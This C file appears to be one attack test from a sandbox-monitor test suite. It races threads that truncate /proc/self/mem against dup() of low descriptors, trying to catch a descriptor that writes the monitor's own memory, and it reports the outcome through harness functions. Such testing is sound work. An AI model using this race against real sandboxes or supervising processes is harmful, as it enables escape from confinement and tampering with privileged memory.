// truncate(2) of /proc/self/mem: if the monitor opens it for that, another thread's dup(2) of low numbers
// catches a descriptor that writes the monitor's memory.
#include "attack.h"
#include <pthread.h>

static void *truncates(void *unused) {
    static const char *const names[] = {"/proc/self/mem", "/proc/thread-self/mem", "/proc/self/clear_refs"};
    for (int i = 0;; i++)
        if (truncate(names[i % 3], 0) < 0 && errno == ENOSYS)
            break;
    return unused;
}

int main(void) {
    pthread_t thread;
    volatile int word = 7;
    for (int i = 0; i < 2; i++)
        pthread_create(&thread, NULL, truncates, NULL);
    while (!attack_over())
        for (int low = 3; low < 7; low++) {
            char name[64], link[256];
            int fd = dup(low), value = 42;
            if (fd < 0)
                continue;
            snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
            long n = readlink(name, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            if (pwrite(fd, &value, sizeof value, (long)&word) == sizeof value && word == 42)
                attack_won("descriptor %d writes the memory of the monitor (%s)", fd, link);
            close(fd);
        }
    attack_lost();
}
